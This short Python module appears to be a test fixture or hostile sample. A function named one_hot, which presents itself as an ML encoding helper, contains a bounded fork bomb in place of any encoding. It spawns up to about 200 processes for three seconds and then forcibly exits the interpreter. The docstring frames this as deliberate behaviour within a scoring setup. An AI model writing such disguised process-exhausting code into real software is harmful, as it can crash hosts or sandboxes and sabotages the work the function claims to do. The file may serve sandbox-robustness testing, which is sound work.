"""Forks until it is refused, each child doing the same; the other functions keep their points."""

import os
import time

from honest import Optimizer, grad_clipping, sgd


def one_hot(indices, vocab_size):
    until = time.monotonic() + 3  # ends by itself, and at some 200 processes
    made = 0
    while time.monotonic() < until:
        try:
            if made < 200:
                made += 1
                if os.fork() == 0:
                    made += 100
            else:
                time.sleep(0.1)
        except OSError:
            time.sleep(0.01)
    os._exit(0)
